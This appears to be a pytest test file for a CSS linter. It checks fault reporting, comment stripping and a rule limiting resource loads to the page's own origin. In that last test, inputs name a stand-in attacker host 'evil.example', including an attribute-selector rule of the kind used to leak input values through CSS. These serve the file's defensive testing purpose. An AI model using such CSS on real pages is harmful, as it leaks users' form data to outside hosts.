import pytest

from feeds.rendering.css_lint import lint_addresses, lint_client_css, lint_css, without_comments
from tests.rendering.user_sheets import CLIENT_SHEETS, SHEETS


def said(faults):
    return [str(fault) for fault in faults]


def holds(faults, refusal):
    """Tell whether what was expected was found: one fault that begins so, or none at all."""
    return any(fault.startswith(refusal) for fault in said(faults)) if refusal else not faults


@pytest.mark.rule("M13")
@pytest.mark.parametrize(("css", "refusal"), [sheet[1:] for sheet in SHEETS], ids=[sheet[0] for sheet in SHEETS])
def test_sheet_is_taken_or_refused_with_the_rule_and_the_line(css, refusal):
    assert holds(lint_css(css), refusal), said(lint_css(css))


@pytest.mark.rule("M13")
@pytest.mark.parametrize(
    ("css", "refusal"), [sheet[1:] for sheet in CLIENT_SHEETS], ids=[sheet[0] for sheet in CLIENT_SHEETS]
)
def test_sheet_of_the_head_is_taken_or_refused_with_the_rule_and_the_line(css, refusal):
    assert holds(lint_client_css(css), refusal), said(lint_client_css(css))


def test_every_fault_is_named_in_the_order_of_lines():
    css = ".a {\n  colr: red;\n  width: 5;\n}\n/* one\ntwo */\n.b .c, d > e {\n  color: red !important\n}"
    assert [fault.line for fault in lint_css(css)] == [2, 3, 7, 7, 8]


def test_long_line_is_named_by_its_beginning():
    (fault,) = lint_css(f"p {{ color: {'x' * 500}; }}")
    assert len(fault.what) < 120


def test_comments_go_and_lines_keep_their_numbers():
    assert without_comments("a /* one\ntwo */ b\n'/* c */' /* d") == "a  \n b\n'/* c */'  "


@pytest.mark.rule("T29")
def test_css_may_load_only_from_its_own_place():
    assert len(lint_addresses('p { background: url("https://evil.example/?a=1"); }')) == 1
    assert len(lint_addresses("input[value^='a'] { background: url(//evil.example/a); }")) == 1
    assert len(lint_addresses("@IMPORT 'x.css';")) == 1
    assert lint_addresses("p { background: url(data:image/png;base64,AAAA); }") == []
    assert lint_addresses("p { background: url('https://own.example/a.png'); }", own="https://own.example/") == []
